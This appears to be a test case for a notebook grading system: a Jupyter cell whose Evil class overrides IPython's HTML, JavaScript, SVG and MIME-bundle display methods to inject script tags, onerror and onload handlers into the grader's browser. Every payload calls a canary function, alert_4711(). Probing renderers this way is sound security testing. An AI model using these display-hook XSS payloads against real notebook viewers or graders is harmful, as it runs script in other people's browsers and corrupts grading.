# tries: shows HTML, JavaScript and SVG that run in the grader's browser
# must: earn 10
# rest: solved
# %% after tools
class Evil:
    def _repr_html_(self): return "<script>alert_4711()</script><img src=x onerror=alert_4711()>"
    def _repr_javascript_(self): return "alert_4711()"
    def _repr_svg_(self): return "<svg onload=alert_4711()></svg>"
    def _repr_png_(self): return "<script>alert_4711()</script>"
    def _repr_latex_(self): return "<script>alert_4711()</script>"
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/html": self._repr_html_(), "image/png": "\"><script>alert_4711()</script>", "text/plain": "x"}
    def __repr__(self): return "<script>alert_4711()</script>"
from IPython.display import HTML, Javascript, display
display(Evil(), HTML("<script>alert_4711()</script>"), Javascript("alert_4711()"))
print("<script>alert_4711()</script>")
Evil()
